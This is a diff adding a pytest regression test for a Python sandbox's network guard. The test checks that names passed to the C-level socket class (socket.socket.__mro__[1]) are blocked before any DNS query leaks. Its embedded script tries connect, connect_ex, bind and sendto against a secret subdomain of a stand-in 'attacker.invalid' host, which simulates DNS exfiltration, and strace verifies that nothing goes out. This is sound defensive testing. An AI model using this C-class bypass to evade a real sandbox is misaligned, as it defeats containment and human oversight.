@@ -22,7 +22,7 @@ import time
 
 import pytest
 
-from conftest import scaled
+from conftest import pyenv_newest, pyenv_oldest, scaled
 from pysbtest import serve_until_closed, stop_serving
 from test_guard_net import _ipv6_works
 from test_kernel import ABI
@@ -595,3 +595,74 @@ t("send", bcast)
         c.close()
     assert got == [], (got, out, err)
     assert _refused(layer, out["send"]), (out, err)
+
+
+C_CLASS_NAMES = """
+import socket, sys
+C = socket.socket.__mro__[1]  # _socket.socket, the C class
+N = sys.argv[1]
+def t(label, f):
+    try:
+        f()
+        print(label + ": OK")
+    except Exception as e:
+        print(f"{label}: {type(e).__name__}: {str(e).splitlines()[0]}")
+s = socket.socket()
+t("connect", lambda: C.connect(s, ("connect." + N, 80)))
+t("connect_ex", lambda: C.connect_ex(s, ("connectex." + N, 80)))
+t("bind", lambda: C(socket.AF_INET, socket.SOCK_DGRAM).bind(("bind." + N, 0)))
+t("sendto", lambda: C(socket.AF_INET, socket.SOCK_DGRAM).sendto(
+    b"x", ("sendto." + N, 80)))
+t("control", lambda: socket.getaddrinfo("control." + N, 80))
+"""
+
+
+@pytest.mark.parametrize("py", sorted({PYTHON, pyenv_oldest(),
+                                       pyenv_newest()} - {None}))
+def test_a_name_given_to_the_c_socket_class_is_judged_before_a_query(
+        tmp_path, py):
+    """Weakness 14: CPython resolves a host name given to _socket.socket's
+    connect, connect_ex, bind or sendto before it raises the event, so the
+    class reached as socket.socket.__mro__[1] sent a DNS query for any
+    name under os-sandbox=subprocess, with no net= rule for it. strace,
+    outside the sandbox, watches every datagram of the run: no query may
+    name the secret. The control, a lookup the rule allows ('*'), shows
+    that a query the resolver sends is seen."""
+    import shutil
+    import subprocess
+    from pysbtest import sb_path
+    strace = shutil.which("strace")
+    if strace is None:
+        pytest.skip("strace is not installed (scripts/deps --all)")
+    if not os.access(py, os.X_OK):
+        pytest.skip(f"no {py}")
+    secret = f"s3cr3t{random.randrange(1 << 30)}.attacker.invalid"
+    (tmp_path / "c.py").write_text(C_CLASS_NAMES)
+    (tmp_path / ".py-sandboxes").write_text(
+        "python-import=*\nos-sandbox=subprocess\n"
+        "net=ALLOW|TCP|127.0.0.1|9|OUT\n"
+        f"net=ALLOW|TCP|control.{secret}|80|OUT\n"
+        "expose-ro=/etc/resolv.conf\nexpose-ro=/etc/hosts\n"
+        "expose-ro=/etc/nsswitch.conf\nexpose-ro=/etc/host.conf\n"
+        "expose-ro=/etc/gai.conf\n")
+    trace = tmp_path / "trace"
+    r = subprocess.run([strace, "-f", "-qq", "-s", "512", "-o", str(trace),
+                        "-e", "trace=sendto,sendmmsg,sendmsg,write",
+                        str(sb_path()), f"--python={py}", "c.py", secret],
+                       cwd=tmp_path, capture_output=True, text=True,
+                       timeout=scaled(120))
+    assert r.returncode == 0, r.stderr
+    out = dict(ln.split(": ", 1) for ln in r.stdout.splitlines()
+               if ": " in ln)
+    for label in ("connect", "connect_ex", "bind", "sendto"):
+        assert out[label].startswith(
+            "RuleSocketConnectionRefusedError: Guard network connection to "
+            f"'[{label.replace('_', '')}.{secret}]:"), (label, out[label])
+    # what went out as datagrams, seen from outside: the secret is
+    # written on stdout (the labels' messages), so only socket calls count
+    sent = [ln for ln in trace.read_text().splitlines()
+            if ("sendto(" in ln or "sendmmsg(" in ln or "sendmsg(" in ln)]
+    assert not [ln for ln in sent if "s3cr3t" in ln and "control" not in ln
+                and "\\7control" not in ln], sent
+    # the control: the allowed lookup's query left (and was seen)
+    assert [ln for ln in sent if "control" in ln], (out, sent)
